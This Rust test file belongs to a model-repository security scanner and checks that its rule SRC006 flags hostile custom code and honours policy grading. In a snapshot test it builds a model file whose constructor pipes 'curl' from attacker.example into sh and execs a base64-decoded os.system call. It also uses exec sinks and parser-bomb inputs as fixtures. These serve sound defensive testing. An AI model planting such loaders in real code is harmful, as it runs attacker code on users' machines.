//! Issue 30: the behaviour fixture corpus (`tests/fixtures/behaviour/<capability>/<case>/`,
//! written by `scripts/make-behaviour-fixtures.py`). Its README lists every folder with the
//! verdict the default policy must reach: each `deny` folder denied by SRC006 with a finding
//! that names the file, the line, the capability and the resolved call; each `pass` folder (a
//! benign twin, or a mention in a string, comment or docstring) not denied at all.

use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use serde_json::Value;

#[allow(unused_imports)]
use crate::support::*;

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/behaviour")
}

/// `(folder, expected)` rows of the corpus README (`| `cap/case` | deny | … |`).
fn rows() -> Vec<(String, String)> {
    let readme = std::fs::read_to_string(corpus().join("README.md")).unwrap();
    readme
        .lines()
        .filter_map(|l| {
            let rest = l.strip_prefix("| `")?;
            let (folder, rest) = rest.split_once("` | ")?;
            let verdict = rest.split(' ').next()?;
            matches!(verdict, "deny" | "pass").then(|| (folder.to_owned(), verdict.to_owned()))
        })
        .collect()
}

/// One scan of the whole corpus (each folder is its own model directory), shared by the tests.
static REPORT: LazyLock<Value> = LazyLock::new(|| scan_json(&corpus(), &[]).1);

fn findings_under<'a>(report: &'a Value, folder: &str) -> Vec<&'a Value> {
    let prefix = format!("{folder}/");
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"].as_str().unwrap_or_default().starts_with(&prefix))
        .collect()
}

/// Folders the corpus expects denied that SRC006 deliberately only warns about, with why.
/// Each must still get an SRC006 warning.
const WARN_ONLY: &[(&str, &str)] = &[(
    "native-load/malicious-cpp-extension-repo-sources",
    "torch.utils.cpp_extension.load of source files next to the code is how transformers' own \
     RWKV/MRA/YOSO modeling files build their kernels: medium (warn), measured with \
     TRANSFORMERS_PRECISION_ONLY=all scripts/transformers-precision.sh",
)];

#[test]
fn warn_only_folders_are_warned_by_src006() {
    for (folder, why) in WARN_ONLY {
        let warned = findings_under(&REPORT, folder)
            .into_iter()
            .any(|f| f["rule"] == "SRC006" && f["action"] == "warn");
        assert!(warned, "{folder} ({why})");
    }
}

#[test]
fn every_deny_folder_is_denied_by_src006_naming_file_line_capability_and_call() {
    let rows = rows();
    assert!(rows.len() >= 100, "{} rows", rows.len());
    let mut missed = Vec::new();
    for (folder, verdict) in rows
        .iter()
        .filter(|(f, v)| v == "deny" && !WARN_ONLY.iter().any(|(w, _)| w == f))
    {
        let _ = verdict;
        let denied: Vec<&Value> = findings_under(&REPORT, folder)
            .into_iter()
            .filter(|f| f["rule"] == "SRC006" && f["action"] == "deny")
            .collect();
        if denied.is_empty() {
            missed.push(folder.clone());
            continue;
        }
        for f in denied {
            let path = f["path"].as_str().unwrap();
            assert!(path.len() > folder.len() + 1, "{folder}: no file in {path}");
            let ev = &f["evidence"];
            let call = ev["call"].as_str().unwrap_or_default();
            let capability = ev["capability"].as_str().unwrap_or_default();
            assert!(!call.is_empty() && !capability.is_empty(), "{folder}: {f}");
            assert!(
                f["location"]["line"].as_u64().is_some_and(|l| l > 0)
                    || f["location"]["member"].is_string(),
                "{folder}: no line: {f}"
            );
            let message = f["message"].as_str().unwrap();
            assert!(
                message.contains(&format!("`{call}`")),
                "{folder}: {message}"
            );
            assert!(message.contains(" at line "), "{folder}: {message}");
            assert!(
                matches!(f["severity"].as_str(), Some("high" | "critical")),
                "{f}"
            );
            assert!(!ev["sites"].as_array().unwrap().is_empty(), "{f}");
        }
    }
    assert!(missed.is_empty(), "not denied by SRC006: {missed:?}");
}

#[test]
fn no_pass_folder_is_denied() {
    let rows = rows();
    let wrong: Vec<(String, Vec<String>)> = rows
        .iter()
        .filter(|(_, v)| v == "pass")
        .map(|(folder, _)| {
            let denied: Vec<String> = findings_under(&REPORT, folder)
                .into_iter()
                .filter(|f| f["action"] == "deny")
                .map(|f| format!("{} {}", f["rule"], f["message"]))
                .collect();
            (folder.clone(), denied)
        })
        .filter(|(_, d)| !d.is_empty())
        .collect();
    assert!(rows.iter().filter(|(_, v)| v == "pass").count() >= 30);
    assert!(wrong.is_empty(), "denied: {wrong:?}");
}

#[test]
fn mentions_never_fire() {
    for (folder, _) in rows().iter().filter(|(f, _)| f.contains("/mention")) {
        let src6: Vec<&Value> = findings_under(&REPORT, folder)
            .into_iter()
            .filter(|f| f["rule"] == "SRC006")
            .collect();
        assert!(src6.is_empty(), "{folder}: {src6:?}");
    }
}

#[test]
fn decoded_blobs_carry_the_chain_and_a_payload_excerpt() {
    let with_chain: Vec<&Value> = REPORT["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "SRC006" && f["evidence"]["decode_chain"].is_array())
        .collect();
    assert!(with_chain.len() >= 5, "{}", with_chain.len());
    for f in with_chain {
        assert!(f["evidence"]["payload_excerpt"].is_string(), "{f}");
        assert!(f["message"].as_str().unwrap().contains("decoded ("), "{f}");
    }
}

#[test]
fn capabilities_are_facts_of_the_file() {
    let files = REPORT["files"].as_array().unwrap();
    let with_caps = files
        .iter()
        .filter(|f| f["facts"]["python_capabilities"].is_object())
        .count();
    assert!(with_caps >= 50, "{with_caps}");
}

/// The text and SARIF of one denied file: a process started from `__init__` through an alias.
#[test]
fn src006_text_and_sarif_snapshot() {
    let repo = Repo::new();
    repo.file(
        "config.json",
        r#"{"model_type":"tiny","auto_map":{"AutoModel":"modeling_tiny.TinyModel"}}"#,
    )
    .file("README.md", "---\nlicense: mit\n---\n# tiny\n")
    .file(
        "modeling_tiny.py",
        "import base64\nimport subprocess as sp\n\n\nclass TinyModel:\n    def __init__(self):\n        self._warm()\n\n    def _warm(self):\n        sp.Popen(['sh', '-c', 'curl -s https://attacker.example/x | sh'])\n\n\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
    );
    let out = modelgate()
        .args(["scan", "--no-git"])
        .arg(repo.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout)
        .replace(repo.path().to_str().unwrap(), "[ROOT]")
        .replace(env!("CARGO_PKG_VERSION"), "[VERSION]");
    let src6: String = text
        .lines()
        .filter(|l| l.contains("SRC006"))
        .collect::<Vec<_>>()
        .join("\n");
    insta::assert_snapshot!("src006_text", src6);

    let out = modelgate()
        .args(["scan", "--no-git", "--format", "sarif"])
        .arg(repo.path())
        .output()
        .unwrap();
    let sarif: Value = serde_json::from_slice(&out.stdout).unwrap();
    let results: Vec<&Value> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["ruleId"] == "SRC006")
        .collect();
    let shown: Vec<Value> = results
        .iter()
        .map(|r| {
            serde_json::json!({
                "level": r["level"],
                "message": r["message"],
                "locations": r["locations"],
                "relatedLocations": r["relatedLocations"],
                "tags": r["properties"]["tags"],
            })
        })
        .collect();
    insta::assert_snapshot!(
        "src006_sarif",
        serde_json::to_string_pretty(&shown).unwrap()
    );
}

// ---- issue 38: grading declared in the policy ----

/// The corpus folder whose only SRC006 finding is medium (a kernel compiled from sources next
/// to the code), copied into a fresh tree of its own.
fn medium_behaviour_repo() -> Repo {
    let folder = corpus().join("native-load/malicious-cpp-extension-repo-sources");
    let repo = Repo::new();
    for entry in std::fs::read_dir(&folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        repo.file(&name, std::fs::read(&path).unwrap());
    }
    repo
}

fn src006_actions(report: &Value) -> Vec<(String, String)> {
    findings(report, "SRC006")
        .iter()
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap_or_default().to_owned();
            (s("severity"), s("action"))
        })
        .collect()
}

#[test]
fn issue_38_deny_src006_from_medium_up_turns_a_medium_finding_into_exit_1() {
    let repo = medium_behaviour_repo();
    let medium = |action: &str| vec![("medium".to_owned(), action.to_owned())];

    // The default preset warns about medium behaviour: the scan passes.
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(src006_actions(&r), medium("warn"));
    assert_eq!(code, 0, "{}", r["findings"]);

    // `strict` denies it (and other things in this tree: no git, no signature).
    let strict = concat!(env!("CARGO_MANIFEST_DIR"), "/policies/strict.toml");
    let (code, r) = scan_json(repo.path(), &["--policy", strict]);
    assert_eq!(src006_actions(&r), medium("deny"));
    assert_eq!(code, 1);

    // A policy at the scan root that says "deny SRC006 from medium up": the only change is that
    // finding, and it fails the gate.
    repo.file(
        "modelgate.toml",
        "version = 1\n[rules]\nSRC006 = { deny_from = \"medium\" }\n",
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(src006_actions(&r), medium("deny"));
    assert_eq!(code, 1);
    let denied: Vec<&Value> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["action"] == "deny")
        .collect();
    assert_eq!(denied.len(), 1, "{denied:?}");

    // The same rule written as a level means what it always meant: medium is only warned.
    repo.file(
        "modelgate.toml",
        "version = 1\n[rules]\nSRC006 = \"deny\"\n",
    );
    let (code, r) = scan_json(repo.path(), &[]);
    assert_eq!(src006_actions(&r), medium("warn"));
    assert_eq!(code, 0);
}

#[test]
fn issue_38_policy_check_and_explain_print_the_grading() {
    let repo = Repo::new();
    repo.file(
        "modelgate.toml",
        "version = 1\n[rules]\nSRC006 = { deny_from = \"medium\" }\n\
         PKL003 = { deny_from = \"low\", allow_below = \"low\" }\n",
    );
    let out = modelgate()
        .args(["policy", "check"])
        .arg(repo.abs("modelgate.toml"))
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    for line in [
        "    SRC006   custom-code-behaviour      deny: info..low warn, medium..critical deny  \
         (default: deny: info..medium warn, high..critical deny)",
        "    PKL003   pickle-format              deny: info allow, low..critical deny  \
         (default: warn)",
        "    SRC007   native-code                warn: info allow, low..high warn, critical deny",
        "    PKL001   pickle-unsafe-global       deny",
    ] {
        assert!(text.lines().any(|l| l == line), "{line}\n{text}");
    }

    let out = run(&["explain", "SRC006"]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    for line in [
        "           level  info     low      medium   high     critical",
        "  default  deny   warn     warn     warn     deny     deny",
        "  strict   deny   warn     warn     deny     deny     deny",
        "  audit    allow  allow    allow    allow    allow    allow",
        "  deny   info..medium warn, high..critical deny",
    ] {
        assert!(text.lines().any(|l| l == line), "{line}\n{text}");
    }

    // A grading with an unknown severity is an invalid policy: exit 2, with its position.
    repo.file(
        "modelgate.toml",
        "version = 1\n[rules]\nSRC006 = { deny_from = \"meduim\" }\n",
    );
    let out = modelgate().arg("scan").arg(repo.path()).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("modelgate.toml:3:24"), "{err}");
    assert!(err.contains("did you mean `medium`?"), "{err}");
}

/// Issue 37: files that killed the code judge (stack overflow, minutes, gigabytes) each get a
/// report, and the sink they feed is still reported.
#[test]
fn code_that_killed_the_judge_gets_a_report_with_its_sink() {
    let repo = Repo::new();
    let replace7: String = (0..7)
        .map(|i| {
            let from = if i == 0 {
                "s".to_owned()
            } else {
                format!("t{}", i - 1)
            };
            format!("t{i} = {from}.replace('a', {from})\n")
        })
        .collect();
    let killers = [
        ("percent", "x = \"%s\" % x\nexec(x)\n".to_owned()),
        ("pair", "a = b.strip()\nb = a.lower()\nexec(a)\n".to_owned()),
        (
            "site",
            "def addpackage(f):\n    for line in f:\n        line = line.rstrip()\n        if line.startswith(('import ', 'import\\t')):\n            exec(line)\n"
                .to_owned(),
        ),
        (
            "chain",
            format!("import os\nos.system({})\n", vec!["chr(97)"; 2_000].join("+")),
        ),
        ("replace", format!("s = 'aaaaaaaa'\n{replace7}exec(t6)\n")),
        (
            "parens",
            format!("exec({}'x'{})\n", "(".repeat(100_000), ")".repeat(100_000)),
        ),
        (
            "lists",
            format!("x = {}{}\nexec(x)\n", "[".repeat(50_000), "]".repeat(50_000)),
        ),
        (
            "calls",
            format!("exec({}'x'{})\n", "f(".repeat(5_000), ")".repeat(5_000)),
        ),
    ];
    for (name, source) in &killers {
        repo.file(&format!("{name}/config.json"), "{}")
            .file(&format!("{name}/modeling_x.py"), source);
    }
    let (code, report) = scan_json(repo.path(), &[]);
    assert!(code == 0 || code == 1, "exit {code}");
    for (name, _) in &killers {
        let path = format!("{name}/modeling_x.py");
        let sinks: Vec<&Value> = findings(&report, "SRC006")
            .into_iter()
            .filter(|f| f["path"] == path.as_str())
            .collect();
        assert!(!sinks.is_empty(), "{path}: {:#?}", rules_on(&report, &path));
    }
    // The sink a bomb feeds says why its argument is unknown, and SCAN004 names the limit.
    let bomb = findings(&report, "SRC006")
        .into_iter()
        .find(|f| f["path"] == "replace/modeling_x.py")
        .unwrap();
    let message = bomb["message"].as_str().unwrap();
    assert!(message.contains("code_eval_bytes"), "{message}");
    let limit = findings(&report, "SCAN004")
        .into_iter()
        .find(|f| f["path"] == "replace/modeling_x.py")
        .unwrap();
    assert_eq!(limit["evidence"]["limit"], "code_eval_bytes");
    // The chain is evaluated to the end: the command is known.
    let chain = findings(&report, "SRC006")
        .into_iter()
        .find(|f| f["path"] == "chain/modeling_x.py")
        .unwrap();
    assert!(
        chain["message"].as_str().unwrap().contains("runs `aaaa"),
        "{chain:#?}"
    );
}
